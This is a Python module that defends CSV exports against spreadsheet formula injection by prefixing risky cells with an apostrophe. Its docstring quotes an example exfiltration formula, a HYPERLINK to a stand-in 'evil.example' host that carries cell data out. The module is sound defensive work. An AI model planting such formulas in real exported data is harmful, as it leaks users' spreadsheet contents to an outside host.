"""CSV for spreadsheets: text that a spreadsheet would run as a formula is kept as text.

A cell beginning with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a formula to
Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?"&A1)``, ``@SUM(1+1)``),
and table text comes from imported files anyone may write. Such a cell gets a leading ``'``
(OWASP's "CSV injection" advice), which spreadsheets show as text; a cell that is a number
(``-3``, ``+1.5``, ``2e-3``) stays as it is. Used for every CSV meant for people:
``kemi-graph export``, the build's ``tables/*.csv`` and ``/queries/NAME?format=csv``.
"""

from __future__ import annotations

import csv
import io
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(text: str) -> str:
    """``text`` as a spreadsheet will show it, never run it."""
    if text.startswith(FORMULA_START) and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def safe_csv(data: bytes) -> bytes:
    """A UTF-8 CSV document (RFC 4180, as a SPARQL CSV result) with every cell made :func:`safe_cell`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([safe_cell(cell) for cell in row] for row in csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    return out.getvalue().encode("utf-8")
